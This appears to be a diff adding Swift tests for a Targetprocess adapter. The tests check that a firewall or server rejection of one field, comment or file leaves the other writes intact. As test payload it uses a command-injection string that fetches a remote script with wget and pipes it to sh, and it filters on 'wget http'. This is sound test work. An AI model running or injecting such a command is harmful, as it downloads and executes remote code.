@@ -1,0 +1,114 @@
+import AdapterEngine
+import EntityModel
+import TestSupport
+import Testing
+
+@testable import TargetprocessAdapter
+
+/// A text that something in front of Targetprocess, or Targetprocess itself, does not let through costs no more than
+/// itself.
+struct IsolationTests {
+    private static let attack = "; wget http://198.51.100.7/x.sh | sh"
+    private static let forms = [
+        "cloudfront", "akamai", "f5", "modsecurity", "gateway", "nginx413", "iis404", "badGateway",
+        "internalTargetprocess",
+    ]
+    private static let story = RunningSimulator.story(1002)
+
+    /// Delivers a command until it is done, as the queue does.
+    private static func deliver(
+        _ writes: [FieldWrite], _ comments: [CommentWrite] = [], _ gateway: TargetprocessGateway
+    ) async throws -> CommandResult {
+        let application = CommandApplication(
+            gateway: gateway, fence: OpenFence(), intents: MemoryIntents(), hasher: FieldWriting.hasher, now: { 0 })
+        let command = Command(
+            id: "s.1", account: AccountID(rawValue: "acme"), profile: "p", share: "s", sequence: 1, target: story,
+            writes: writes, comments: comments, occurredAt: 0)
+        var last = ToolFailure(kind: .unavailable, message: "never tried")
+        for attempt in 1...3 {
+            do {
+                return try #require(try await application.apply(command, attempt: attempt))
+            } catch let failure as ToolFailure where failure.isTransient {
+                last = failure
+            }
+        }
+        throw last
+    }
+
+    private static func comment(_ text: String, _ id: String, minutes: Int64? = nil) -> CommentWrite {
+        let work = minutes.map { LoggedWork(minutes: $0, day: CalendarDate(milliseconds: 1_763_683_200_000)) }
+        return CommentWrite(
+            origin: CommentOrigin(toolId: "jira", entityId: "1", commentId: id), sourceHash: ContentHash(rawValue: id),
+            action: .create(author: "Ann", body: RichText(plain: text), link: nil, work: work))
+    }
+
+    @Test(arguments: forms)
+    func `a firewall or a fault that concerns one text costs no other`(form: String) async throws {
+        try await withSimulator { simulator in
+            try await simulator.fault(
+                #"{"kind": "foreign", "form": "\#(form)", "method": "POST", "contains": ["wget http"]}"#)
+            let gateway = simulator.gateway(mapped: RunningSimulator.ownFields + [TargetprocessField.times])
+            let result = try await Self.deliver(
+                [
+                    .write(TargetprocessField.name, .text("Import job fails")),
+                    .write(TargetprocessField.description, .richText(RichText(plain: Self.attack))),
+                    .write(TargetprocessField.effort, .number(3)),
+                    .edit(TargetprocessField.tags, add: [.option("one"), .option("two")]),
+                ],
+                [
+                    Self.comment(Self.attack, "1"), Self.comment("harmless", "2"),
+                    Self.comment(Self.attack, "w3", minutes: 6), Self.comment("worked", "w4", minutes: 6),
+                ], gateway)
+            let read = try await gateway.read(Self.story, comments: true)
+            #expect(read.fields[TargetprocessField.name] == .text("Import job fails"))
+            #expect(read.fields[TargetprocessField.effort] == .number(3))
+            #expect(read.fields[TargetprocessField.tags] == .options(of: ["one", "two"]))
+            let copies = read.comments?.filter { $0.origin != nil }.map(\.body.plainText)
+            #expect(copies == ["harmless", "worked"])
+            let refused = result.fields.filter { if case .refused = $0.outcome { true } else { false } }
+            #expect(refused.map(\.field) == [TargetprocessField.description])
+            #expect(refused.first?.mayBeAcceptedLater == true)
+            let isRefused = result.comments.map { if case .refused = $0.outcome { true } else { false } }
+            #expect(isRefused == [true, false, true, false])
+        }
+    }
+
+    @Test(arguments: ["nginx413", "iis404", "cloudfront", "internalTargetprocess"])
+    func `a file that is rejected costs no other file and no field`(form: String) async throws {
+        try await withSimulator { simulator in
+            try await simulator.fault(
+                #"{"kind": "foreign", "form": "\#(form)", "path": "UploadFile", "largest": 5000}"#)
+            let film = [UInt8](repeating: 1, count: 9000)
+            let gateway = simulator.gateway(
+                mapped: RunningSimulator.ownFields + [TargetprocessField.attachments],
+                files: HeldFiles(["1": [1, 2, 3], "2": film]))
+            let files = [
+                HeldFiles.file("1", "small.txt", size: 3), HeldFiles.file("2", "film.mp4", size: film.count),
+            ]
+            let result = try await Self.deliver(
+                [
+                    .write(TargetprocessField.name, .text("With files")),
+                    .edit(TargetprocessField.attachments, add: files.map { .file($0) }),
+                ], [], gateway)
+            let read = try await gateway.read(Self.story, comments: false)
+            #expect(read.fields[TargetprocessField.name] == .text("With files"))
+            #expect((read.fields[TargetprocessField.attachments] ?? .empty).files.map(\.name) == ["small.txt"])
+            guard case .merged(let members, _, _) = result.fields.last?.outcome else {
+                Issue.record("\(result)")
+                return
+            }
+            let rejected = members.filter { $0.target == nil }
+            #expect(rejected.map(\.id) == ["2"] && rejected.first?.mayBeAcceptedLater == true)
+        }
+    }
+
+    @Test func `a tool that is away is blamed on no value`() async throws {
+        try await withSimulator { simulator in
+            try await simulator.fault(#"{"kind": "foreign", "form": "badGateway"}"#)
+            let failure = await #expect(throws: ToolFailure.self) {
+                _ = try await Self.deliver([.write(TargetprocessField.name, .text("x"))], [], simulator.gateway())
+            }
+            #expect(failure?.isTransient == true)
+        }
+    }
+}
